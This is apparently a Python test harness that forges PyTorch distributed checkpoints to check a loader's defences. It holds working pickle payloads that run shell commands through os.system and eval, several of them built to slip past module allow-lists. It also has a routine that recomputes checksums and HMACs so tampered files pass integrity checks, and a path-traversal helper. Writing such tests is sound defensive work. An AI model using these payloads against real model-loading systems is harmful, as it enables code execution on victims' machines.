"""Forged checkpoints, as someone who can write a checkpoint root makes them (for the trust tests).

Each payload runs a shell command when it is unpickled the unsafe way; `reseal` then recomputes every
size and CRC-32 in the manifest (and, given a key, its HMAC), so the forgery passes every integrity check
and only what ettr refuses to unpickle, or a signature it cannot forge, stands between it and the command.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import shlex
import struct
import zlib
from pathlib import Path
from typing import Any

import torch

from ettr.checkpoint.base import MANIFEST_NAME

METADATA = ".metadata"


class _RunsCommand:
    """Unpickling this runs `command` (through os.system)."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, (self.command,))


def touch_command(marker: Path) -> str:
    """A command whose only effect is to create `marker` (the tests' evidence that code ran)."""
    return f"touch {shlex.quote(os.fspath(marker))}"


def _unicode(text: str) -> bytes:
    data = text.encode()
    return b"\x8c" + struct.pack("<B", len(data)) + data  # SHORT_BINUNICODE


def dotted_global_payload(command: str) -> bytes:
    """A protocol-4 pickle naming the global `os.system` *under* `torch.distributed.checkpoint.filesystem`
    (which imports os): a prefix allow-list of modules lets it through."""
    return (
        b"\x80\x04"  # PROTO 4: dotted names are resolved attribute by attribute
        + _unicode("torch.distributed.checkpoint.filesystem")
        + _unicode("os.system")
        + b"\x93"  # STACK_GLOBAL
        + _unicode(command)
        + b"\x85"  # TUPLE1
        + b"R"  # REDUCE
        + b"."  # STOP
    )


def opcode_payloads(command: str) -> dict[str, bytes]:
    """Other ways a `.metadata` pickle can reach a callable, each running `command` if it resolves: the
    protocol-2 GLOBAL and protocol-0 INST opcodes with a dotted name under an allowed module, a builtin by
    STACK_GLOBAL, an extension code (EXT1), torch's rebuild-from-type hook, a persistent id, and an
    allowed callable (`_get_layout`) handed the command."""
    dotted = b"torch.distributed.checkpoint.filesystem\nos.system\n"
    return {
        "global-opcode": b"\x80\x02c" + dotted + _unicode(command) + b"\x85R.",
        "inst-opcode": b"(" + _unicode(command) + b"i" + dotted + b".",
        "builtin-eval": b"\x80\x04"
        + _unicode("builtins")
        + _unicode("eval")
        + b"\x93"
        + _unicode(f"__import__('os').system({command!r})")
        + b"\x85R.",
        "extension-code": b"\x80\x02\x82\x01.",
        "rebuild-from-type": b"\x80\x04"
        + _unicode("torch._tensor")
        + _unicode("_rebuild_from_type_v2")
        + b"\x93"
        + b"("
        + _unicode("os")
        + _unicode("system")
        + b"\x93"
        + _unicode(command)
        + b"\x85"
        + b"t\x81.",
        "persistent-id": b"\x80\x02" + _unicode(command) + b"Q.",
        "allowed-callable": b"\x80\x04"
        + _unicode("torch.serialization")
        + _unicode("_get_layout")
        + b"\x93"
        + _unicode(command)
        + b"\x85R.",
    }


def torch_save_payload(command: str) -> bytes:
    """`torch.save` of an object that runs `command` when loaded with `weights_only=False`."""
    buffer = io.BytesIO()
    torch.save(_RunsCommand(command), buffer)
    return buffer.getvalue()


def load_from_bytes_payload(command: str) -> bytes:
    """A pickle calling the (once allow-listed) `torch.storage._load_from_bytes`, which is
    `torch.load(weights_only=False)` of its argument: a pickle inside the pickle."""
    inner = torch_save_payload(command)
    return (
        b"\x80\x02"
        + b"c"
        + b"torch.storage\n_load_from_bytes\n"  # GLOBAL
        + b"B"
        + struct.pack("<I", len(inner))
        + inner  # BINBYTES (protocol 3 opcode; the unpickler accepts it whatever PROTO says)
        + b"\x85R."
    )


def reseal(directory: Path, *, secret: bytes | None = None, key_id: str | None = None) -> None:
    """Recompute the manifest of checkpoint `directory` for the files now there: every size and CRC-32,
    its own CRC-32 and, with `secret`, its HMAC (named `key_id` when given). Without `secret` the
    signature is dropped (an attacker without the key cannot compute it)."""
    from ettr.checkpoint.commit import _body_crc, _body_hmac

    path = directory / MANIFEST_NAME
    body = json.loads(path.read_bytes())
    body.pop("manifest_crc32", None)
    body.pop("hmac", None)
    body.pop("key_id", None)
    files = {}
    for name in body["files"]:
        data = (directory / name).read_bytes()
        files[name] = {"size": len(data), "crc32": zlib.crc32(data)}
    for extra in sorted(p.name for p in directory.iterdir()):
        if extra.endswith(".distcp") and extra not in files:
            data = (directory / extra).read_bytes()
            files[extra] = {"size": len(data), "crc32": zlib.crc32(data)}
    body["files"] = files
    if secret is not None:
        if key_id is not None:
            body["key_id"] = key_id
        body["hmac"] = _body_hmac(body, secret)
    body["manifest_crc32"] = _body_crc(body)
    path.write_bytes((json.dumps(body, indent=1, sort_keys=True) + "\n").encode())


def plant_metadata(directory: Path, payload: bytes, *, secret: bytes | None = None) -> None:
    """Replace a checkpoint's `.metadata` with `payload` and reseal it."""
    (directory / METADATA).write_bytes(payload)
    reseal(directory, secret=secret)


def plant_bytes_item(directory: Path, fqn_prefix: str, payload: bytes, *, secret: bytes | None = None) -> str:
    """Point the first stored item whose key starts with `fqn_prefix` at `payload` (a new data file), and
    mark it as a pickled object (DCP's BYTE_IO), whatever it was: DCP's default planner loads such items
    with `torch.load(weights_only=False)`. Only classes of DCP's own metadata are used, so an allow-list of
    those lets the `.metadata` through. Returns the key planted."""
    from torch.distributed.checkpoint.filesystem import _StorageInfo
    from torch.distributed.checkpoint.metadata import BytesStorageMetadata, MetadataIndex

    # The harness reads a .metadata it just wrote itself: a plain unpickle is safe here.
    metadata = pickle.loads((directory / METADATA).read_bytes())  # noqa: S301
    fqn = next(k for k in sorted(metadata.state_dict_metadata) if k.startswith(fqn_prefix))
    metadata.state_dict_metadata[fqn] = BytesStorageMetadata()
    for index in [i for i in metadata.storage_data if i.fqn == fqn]:
        del metadata.storage_data[index]
    file_name = "__9_0.distcp"
    (directory / file_name).write_bytes(payload)
    metadata.storage_data[MetadataIndex(fqn=fqn)] = _StorageInfo(
        relative_path=file_name, offset=0, length=len(payload)
    )
    (directory / METADATA).write_bytes(pickle.dumps(metadata))
    reseal(directory, secret=secret)
    return fqn


def point_item_outside(directory: Path, fqn_prefix: str, relative_path: str) -> str:
    """Point the stored items of the first key starting with `fqn_prefix` at another file
    (`../other/__0_0.distcp`, an absolute path): a read outside the checkpoint. Returns the key."""
    from torch.distributed.checkpoint.filesystem import _StorageInfo

    metadata = pickle.loads((directory / METADATA).read_bytes())  # noqa: S301 - written by this harness
    fqn = next(k for k in sorted(metadata.state_dict_metadata) if k.startswith(fqn_prefix))
    for index, info in list(metadata.storage_data.items()):
        if index.fqn == fqn:
            metadata.storage_data[index] = _StorageInfo(
                relative_path=relative_path, offset=info.offset, length=info.length
            )
    (directory / METADATA).write_bytes(pickle.dumps(metadata))
    reseal(directory)
    return fqn
